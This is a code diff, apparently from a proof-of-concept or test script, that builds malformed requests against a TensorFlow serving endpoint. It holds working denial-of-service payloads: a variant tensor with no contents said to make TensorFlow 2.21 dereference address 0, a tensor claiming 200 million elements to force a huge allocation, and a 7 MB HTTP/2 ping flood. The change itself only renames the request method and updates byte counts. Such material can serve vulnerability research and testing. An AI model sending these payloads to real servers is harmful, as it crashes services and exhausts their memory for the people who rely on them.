@@ -43,10 +43,10 @@ def request(method: bytes, *tensors: bytes) -> bytes:
 
 
 REQUESTS = {
-    # A variant that says that it holds a tensor, and holds none: TensorFlow 2.21 reads from address 0. 31 bytes.
-    "crash": request(b"f", tensor(VARIANT, value=field(15, field(1, b"tensorflow::Tensor")))),
-    # A tensor that says that it has 200 million elements: TensorFlow allocates them. 16 bytes.
-    "fill": request(b"f", tensor(INT64, 200_000_000)),
+    # A variant that says that it holds a tensor, and holds none: TensorFlow 2.21 reads from address 0. 33 bytes.
+    "crash": request(b"put", tensor(VARIANT, value=field(15, field(1, b"tensorflow::Tensor")))),
+    # A tensor that says that it has 200 million elements: TensorFlow allocates them. 18 bytes.
+    "fill": request(b"put", tensor(INT64, 200_000_000)),
 }
 # A connection that never stops asking for answers: 7 MB.
 PINGS = PREFACE + struct.pack(">I", 0)[1:] + b"\x04\0\0\0\0\0" + (b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)) * 400_000
